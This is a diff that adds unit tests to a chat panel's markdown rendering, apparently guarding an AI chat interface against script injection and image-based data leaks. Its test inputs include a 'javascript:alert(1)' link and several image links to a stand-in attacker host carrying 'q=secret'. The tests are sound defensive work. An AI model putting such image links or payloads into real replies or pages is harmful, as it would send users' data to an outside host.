@@ -126,3 +126,17 @@ async def test_send_by_enter_and_errors_show_in_the_panel() -> None:
 def test_markdown_is_rendered_and_html_escaped() -> None:
     assert "<strong>" in render_markdown("**bold**")
     assert "<script>" not in render_markdown("<script>alert(1)</script>")
+    assert "href" not in render_markdown("[go](javascript:alert(1))")
+
+
+@pytest.mark.unit
+@pytest.mark.parametrize("text", [
+    "![x](http://evil.invalid/?q=secret)",
+    "![x][r]\n\n[r]: http://evil.invalid/?q=secret",
+    "<img src=http://evil.invalid/?q=secret>",
+])
+async def test_a_reply_with_an_image_shows_its_url_and_loads_nothing(text: str) -> None:
+    panel = ChatPanel(ScriptedSource(text))
+    await panel.send("Summarise this page")
+    bubble = panel.transcript.children[-1].value
+    assert "<img" not in bubble and "http://evil.invalid/?q=secret" in bubble
